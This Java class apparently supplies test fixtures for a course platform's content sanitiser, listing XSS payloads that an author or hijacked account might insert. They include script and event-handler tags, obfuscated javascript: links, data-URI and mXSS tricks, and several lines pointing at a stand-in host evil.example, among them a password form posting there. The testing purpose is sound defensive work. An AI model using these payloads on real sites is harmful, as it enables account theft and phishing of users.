package org.cthb.readiness.learning;

import java.util.List;

/** Markup an author, or someone who took over an author's account, might slip into course content. */
final class XssPayloads {

    private XssPayloads() {
    }

    static List<String> all() {
        return List.of(
                "<script>alert(1)</script>",
                "<<script>script>alert(1)<</script>/script>",
                "<img src=x onerror=alert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<details/open/ontoggle=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "[click](javascript:alert(1))",
                "[click](JaVaScRiPt:alert(1))",
                "[click](&#106;avascript:alert(1))",
                "[click](java&#x73;cript:alert(1))",
                "[click](javascript&#58;alert(1))",
                "[click](<jav&#x09;ascript:alert(1)>)",
                "![alt](javascript:alert(1))",
                "![alt](&#106;avascript:alert(1))",
                "![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
                "<a href=\"javascript&colon;alert(1)\">x</a>",
                "<a href=\"  javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<IFRAME SRCDOC=\"<script>alert(1)</script>\">",
                "<object data=\"https://evil.example/x\"></object>",
                "<embed src=\"https://evil.example/x\">",
                "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<style>body{background:url(https://evil.example/x)}</style>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<form action=\"https://evil.example\"><input name=p type=password><button>Go</button></form>",
                "\"><script>alert(1)</script>",
                "'><img src=x onerror=alert(1)>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<b>bold</b> <x onclick=alert(1)>x</x>");
    }
}
